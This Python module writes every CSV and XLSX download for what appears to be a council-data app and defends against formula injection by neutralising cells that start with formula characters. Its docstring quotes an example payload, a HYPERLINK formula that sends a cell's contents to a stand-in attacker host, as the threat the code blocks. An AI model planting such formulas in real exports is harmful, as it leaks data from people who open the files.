"""The one writer of every CSV and XLSX the app offers for download.

Why: a council's return can carry text such as ``=HYPERLINK("http://evil.example/?"&A2,"Source")``
in its ``document`` column; written verbatim into a CSV, Excel runs it when a colleague
opens the download (CSV/formula injection). Every text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading apostrophe, which
Excel and LibreOffice show as plain text. Numbers stay numbers: a negative figure is
written as a number, not as text, so it is never evaluated as a formula either.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from pathlib import Path

import pandas as pd

#: The characters a spreadsheet may read as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A text cell made safe to open in a spreadsheet; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names cannot start a formula."""
    out = frame.copy()
    out.columns = [neutralise(str(c)) for c in out.columns]
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        if pd.api.types.is_datetime64_any_dtype(series):
            continue
        texts = series.astype(object)
        starts = texts.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS))
        if starts.any():
            out[column] = texts.where(~starts, "'" + texts[starts].astype(str)).where(series.notna(), None)
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 CSV (with a BOM, so Excel on Windows reads '£' and accents right), formula-safe; text
    is quoted (pandas leaves a lone carriage return unquoted, which splits the row)."""
    return safe_frame(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode("utf-8-sig")


def xlsx_bytes(frames: dict[str, pd.DataFrame] | pd.DataFrame, sheet: str = "data") -> bytes:
    """An XLSX workbook (one sheet per frame), every text cell written as text and formula-safe."""
    if isinstance(frames, pd.DataFrame):
        frames = {sheet: frames}
    book = Book(styled=False)
    for name, frame in frames.items():
        book.sheet(str(name)).frame(frame)
    return book.to_bytes()


class Sheet:
    """One sheet of a :class:`Book`. Rows go in only through :meth:`append` or :meth:`frame`, which
    neutralise every text cell; ``ws`` (openpyxl's worksheet) is there for fonts, widths and
    number formats only, never for values."""

    def __init__(self, ws) -> None:
        self.ws = ws

    def append(self, cells: Iterable[object]) -> None:
        self.ws.append([_xlsx_cell(neutralise(v)) for v in cells])

    def frame(self, frame: pd.DataFrame) -> None:
        """A header row and the frame's rows."""
        safe = safe_frame(frame)
        self.ws.append([str(c) for c in safe.columns])
        for row in safe.itertuples(index=False):
            self.ws.append([_xlsx_cell(v) for v in row])


class Book:
    """The one XLSX writer: a formatted workbook (the Scorecard's, the sufficiency plan's) or a plain
    one (:func:`xlsx_bytes`), its cells formula-safe whoever fills it. ``styled=False`` streams
    rows (openpyxl's write-only mode: large tables in little memory, no cell formatting)."""

    def __init__(self, *, styled: bool = True) -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=not styled)
        if styled:
            self._book.remove(self._book.active)

    def sheet(self, title: str) -> Sheet:
        """A new sheet; Excel's 31-character limit applies to its title."""
        return Sheet(self._book.create_sheet(title=title[:31] or "data"))

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()


def _xlsx_cell(value: object) -> object:
    """openpyxl stores a string starting with '=' as a formula: the apostrophe above prevents that,
    and missing values are empty cells."""
    if value is None or (isinstance(value, float) and value != value):
        return None
    if value is pd.NA or value is pd.NaT:
        return None
    if hasattr(value, "item"):
        return value.item()
    return value


def template_bytes(path: Path) -> bytes:
    """A template the project ships (data/templates), byte for byte, once checked to hold no cell a
    spreadsheet would run: a template is data anyone may edit, and it is offered for download."""
    data = Path(path).read_bytes()
    found = xlsx_formula_cells(data) if data[:4] == b"PK\x03\x04" else formula_cells(data)
    if found:
        raise ValueError(f"{Path(path).name} holds cells a spreadsheet would run as formulas: {found[:3]}")
    return data


def formula_cells(data: bytes) -> list[str]:
    """Cells of a CSV download that a spreadsheet would treat as a formula (tests and checks)."""
    text = data.decode("utf-8-sig", errors="replace")
    found = []
    for record in csv.reader(io.StringIO(text, newline="")):
        for cell in record:
            if cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                found.append(cell)
    return found


def xlsx_formula_cells(data: bytes) -> list[str]:
    """Cells of an XLSX download that a spreadsheet would treat as a formula (tests and checks)."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    return found


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def signed(value: float, digits: int = 0, *, up: str = "up", down: str = "down", same: str = "no change") -> str:
    """A change in words ('up 24.1', 'down 3'), never a leading '+' or '-' that a spreadsheet reads as a formula."""
    rounded = round(float(value), digits)
    if rounded == 0:
        return same
    return f"{up if rounded > 0 else down} {abs(rounded):,.{digits}f}"
